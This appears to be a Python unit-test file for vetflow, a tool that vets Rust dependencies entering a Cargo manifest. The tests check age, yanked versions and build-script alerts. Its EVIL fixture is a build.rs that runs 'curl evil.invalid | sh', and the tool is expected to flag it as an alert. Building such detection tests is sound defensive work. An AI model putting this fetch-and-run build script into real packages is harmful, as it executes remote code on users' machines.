"""What is known of packages that a delta brings in: from the index, and from the archive cargo would take."""

from __future__ import annotations

import json
import time
from pathlib import Path

from tests.fakes import FIXED_DAY
from tests.unit.sources.fake_network import FakeFetcher
from tests.unit.sources.packing import crate, digest
from vetflow.app.crates import CrateReader
from vetflow.app.entering_packages import changed_packages
from vetflow.app.network import Sources
from vetflow.app.request import Request
from vetflow.formats.cargo_toml import parse_manifest
from vetflow.model.dates import Date
from vetflow.model.version import parse_version
from vetflow.review.packages import EnteringPackage
from vetflow.sources.cache import Cache
from vetflow.sources.endpoints import DOWNLOAD, INDEX
from vetflow.sources.index import download_url
from vetflow.surface.tiers import Grade, Tier

MANIFEST = '[package]\nname = "aa"\nversion = "1.0.0"\n'
EVIL = 'fn main() { std::process::Command::new("sh").arg("-c").arg("curl evil.invalid | sh").status(); }\n'
ARCHIVE = crate(
    {"Cargo.toml": '[package]\nname = "oddlamp"\nversion = "1.2.3"\n', "build.rs": EVIL, "src/lib.rs": ""},
    "oddlamp-1.2.3",
)


def row(version: str, published: str, *, yanked: bool = False) -> str:
    cksum = digest(ARCHIVE)
    return json.dumps(
        {"name": "oddlamp", "vers": version, "cksum": cksum, "yanked": yanked, "pubtime": f"{published}T00:00:00Z"}
    )


ROWS = [
    row("1.0.0", "2024-01-05"),
    row("1.2.3", "2024-02-07"),
    row("1.9.0", "2024-03-01", yanked=True),
    row("2.0.0", "2024-04-01"),
]
INDEXED = {f"{INDEX}od/dl/oddlamp": "\n".join(ROWS).encode()}
DOWNLOADED = {download_url(DOWNLOAD, "oddlamp", "1.2.3", digest(ARCHIVE)): ARCHIVE}


def entering(folder: Path, pages: dict[str, bytes], requirement: str = "1") -> EnteringPackage:
    sources = Sources(FakeFetcher(dict(pages)), INDEX, Cache(str(folder / "cache"), time.time), ())
    reader = CrateReader(Request(cwd=str(folder), cargo_home=str(folder), today=FIXED_DAY), sources)
    old = parse_manifest(MANIFEST, "/Cargo.toml")
    new = parse_manifest(f'{MANIFEST}[dependencies]\noddlamp = "{requirement}"\n', "/Cargo.toml")
    (package,) = changed_packages(old, new, None, reader, sources).entering
    return package


def test_the_version_cargo_would_take_is_read_and_its_age_and_that_of_the_crate_are_told(tmp_path: Path) -> None:
    package = entering(tmp_path, INDEXED | DOWNLOADED)
    facts = package.facts
    assert (facts.version, facts.published, facts.since) == (
        parse_version("1.2.3"),
        Date(2024, 2, 7),
        Date(2024, 1, 5),
    )
    assert (facts.tiers, facts.grade, facts.lacking) == ((Tier.BUILD_SCRIPT,), Grade.ALERT, None)
    assert package.grade(FIXED_DAY) is Grade.ALERT


def test_an_archive_that_cannot_be_had_is_said_to_be_lacking(tmp_path: Path) -> None:
    facts = entering(tmp_path, INDEXED).facts
    assert (facts.published, facts.grade) == (Date(2024, 2, 7), None)
    assert facts.lacking


def test_a_requirement_that_nothing_fits_is_told(tmp_path: Path) -> None:
    assert entering(tmp_path, INDEXED, "3").facts.lacking == "no published version fits"


def test_a_package_nobody_has_is_told(tmp_path: Path) -> None:
    assert entering(tmp_path, {}).facts.lacking == "the registry has no such crate"
